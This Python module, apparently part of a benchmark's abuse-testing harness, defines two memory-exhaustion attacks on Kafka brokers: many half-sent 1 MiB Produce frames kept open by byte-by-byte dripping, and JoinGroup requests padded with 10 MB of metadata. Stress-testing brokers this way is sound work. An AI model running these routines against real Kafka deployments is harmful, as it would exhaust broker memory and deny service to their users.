"""Kafka connections that hold memory: half-sent frames, and JoinGroup requests with large metadata."""

import struct
from contextlib import suppress

from benchmark.abuse.attack import Attack, Target
from benchmark.groups.wire import JOIN_GROUP, PROTOCOL, PROTOCOL_TYPE, REBALANCE_TIMEOUT_MS, string
from benchmark.wire import PRODUCE, PRODUCE_VERSION, read_frame, request_frame

MEBIBYTE = 1 << 20
# This version has a rebalance timeout. In later versions a client must send JoinGroup twice.
JOIN_GROUP_VERSION = 2
LONGEST_SESSION_MS = 1_800_000
METADATA_BYTES = 10_000_000
LARGE_PRODUCE_BYTES = 512 * 1024


def _half_sent(target: Target) -> None:
    """Send half of each frame. 256 frames of 1 MiB are the limit `queued.max.request.bytes`."""
    frame = request_frame(PRODUCE, PRODUCE_VERSION, bytes(MEBIBYTE))
    for _ in range(target.size):
        connection = target.hold(target.kafka())
        connection.setblocking(False)
        with suppress(BlockingIOError, ConnectionError):
            connection.send(frame[: len(frame) // 2])


def _drip(target: Target) -> None:
    """Send one more byte of each frame."""
    for connection in target.held:
        with suppress(BlockingIOError, ConnectionError):
            connection.send(b"\0")


def _join(group: str) -> bytes:
    body = string(group) + struct.pack(">ii", LONGEST_SESSION_MS, REBALANCE_TIMEOUT_MS) + string("")
    body += string(PROTOCOL_TYPE) + struct.pack(">i", 1) + string(PROTOCOL)
    body += struct.pack(">i", METADATA_BYTES) + bytes(METADATA_BYTES)
    return request_frame(JOIN_GROUP, JOIN_GROUP_VERSION, body)


def _join_metadata(target: Target) -> None:
    connection = target.hold(target.kafka())
    with suppress(ConnectionError, BlockingIOError):
        for number in range(target.size):
            connection.sendall(_join(f"abused-{number}"))
            read_frame(connection)


ATTACKS = (
    Attack(
        "half-sent-frames",
        "{} Kafka frames of 1 MiB, half sent",
        256,
        32,
        _half_sent,
        is_held=True,
        keep=_drip,
        large_bytes=LARGE_PRODUCE_BYTES,
    ),
    Attack(
        "join-metadata", "{} JoinGroups with 10 MB of metadata, one connection", 100, 5, _join_metadata, is_held=True
    ),
)
